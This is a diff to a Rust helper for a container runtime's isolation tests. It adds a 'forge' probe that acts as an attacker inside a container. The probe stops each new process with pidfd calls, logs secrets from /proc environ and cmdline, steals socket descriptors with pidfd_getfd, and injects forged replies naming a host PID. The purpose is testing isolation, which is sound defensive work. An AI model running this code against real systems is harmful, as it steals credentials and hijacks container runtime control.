@@ -2,7 +2,7 @@
 //! and prints what happened as `key=value` lines (`err:EPERM` for a refused system call, `ok` or a
 //! value otherwise), for the test to assert on. It only ever tries: every attempt is a plain system
 //! call whose refusal is the point. chroot(2), proc(5), mknod(2), init_module(2), capabilities(7),
-//! pidfd_getfd(2), open_by_handle_at(2), TIOCSTI in ioctl_tty(2), keyctl(2).
+//! pidfd_getfd(2), open_by_handle_at(2), TIOCSTI in ioctl_tty(2), keyctl(2), pidfd_send_signal(2).
 //!
 //! `probe <what> [args]`; `what` is one of the functions in `main`.
 
@@ -36,6 +36,7 @@ fn main() {
         "fds" => fds(),
         "tiocsti" => tiocsti(&arg(1)),
         "keys" => keys(&args[1..]),
+        "forge" => forge(arg(1).parse().unwrap_or(0), &args[2..]),
         other => {
             eprintln!("probe: unknown probe {other:?}");
             std::process::exit(2);
@@ -633,5 +634,74 @@ fn add_key() -> String {
         format!("err:{:?}", Errno::last())
     } else {
         "ok".into()
+    }
+}
+
+/// An attacker in a container allowed to ptrace (the test starts it with `exec --detach`): catches
+/// each new process in its PID namespace as it appears (pidfd_open on the next PIDs, in a busy loop),
+/// stops it, notes in `/leaks` any of `secrets` its environment or command line shows, and writes into
+/// every socket it holds a reply naming `victim`, a host PID, as the process `exec` started; then lets
+/// it go on. Runs until killed, saying each PID it caught.
+fn forge(victim: i32, secrets: &[String]) {
+    let forged = format!("{{\"Ok\":{victim}}}\n");
+    let mut next = std::process::id() as i32 + 1;
+    loop {
+        let (pid, pidfd) = next_process(next);
+        // SAFETY: pidfd_send_signal takes a pidfd, a signal and a null siginfo; no memory is shared.
+        unsafe { libc::syscall(libc::SYS_pidfd_send_signal, pidfd, libc::SIGSTOP, 0, 0) };
+        note_leaks(pid, secrets);
+        let mut sent = 0;
+        for fd in 3..64 {
+            // SAFETY: pidfd_getfd takes descriptors and flags, no pointers; a returned descriptor is
+            // this process's own, closed below.
+            let stolen = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, fd, 0) } as RawFd;
+            if stolen < 0 {
+                continue;
+            }
+            let is_socket =
+                fs::metadata(format!("/proc/self/fd/{stolen}")).is_ok_and(|m| m.file_type().is_socket());
+            let flags = libc::MSG_NOSIGNAL | libc::MSG_DONTWAIT;
+            // SAFETY: send reads `forged.len()` bytes from a live string.
+            if is_socket && unsafe { libc::send(stolen, forged.as_ptr().cast(), forged.len(), flags) } > 0 {
+                sent += 1;
+            }
+            // SAFETY: the descriptor taken above, closed once.
+            unsafe { libc::close(stolen) };
+        }
+        // SAFETY: as above.
+        unsafe { libc::syscall(libc::SYS_pidfd_send_signal, pidfd, libc::SIGCONT, 0, 0) };
+        // SAFETY: this process's own pidfd, closed once.
+        unsafe { libc::close(pidfd) };
+        eprintln!("forge: pid {pid}: {sent} forged replies");
+        next = pid + 1;
+    }
+}
+
+/// Waits (spinning) for a process with one of the PIDs from `first` on; returns it and a pidfd of it.
+fn next_process(first: i32) -> (i32, RawFd) {
+    loop {
+        for pid in first..first + 4 {
+            // SAFETY: pidfd_open takes a PID and flags, no pointers; the result is a new descriptor.
+            let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
+            if pidfd >= 0 {
+                return (pid, pidfd as RawFd);
+            }
+        }
+    }
+}
+
+/// Appends to `/leaks` each of `secrets` that process `pid`'s environment or command line shows.
+fn note_leaks(pid: i32, secrets: &[String]) {
+    for file in ["environ", "cmdline"] {
+        let shown = fs::read(format!("/proc/{pid}/{file}")).unwrap_or_default();
+        let shown = String::from_utf8_lossy(&shown);
+        for secret in secrets.iter().filter(|s| shown.contains(s.as_str())) {
+            let line = format!("pid {pid} {file}: {secret}\n");
+            let _ = fs::OpenOptions::new()
+                .create(true)
+                .append(true)
+                .open("/leaks")
+                .and_then(|mut f| std::io::Write::write_all(&mut f, line.as_bytes()));
+        }
     }
 }
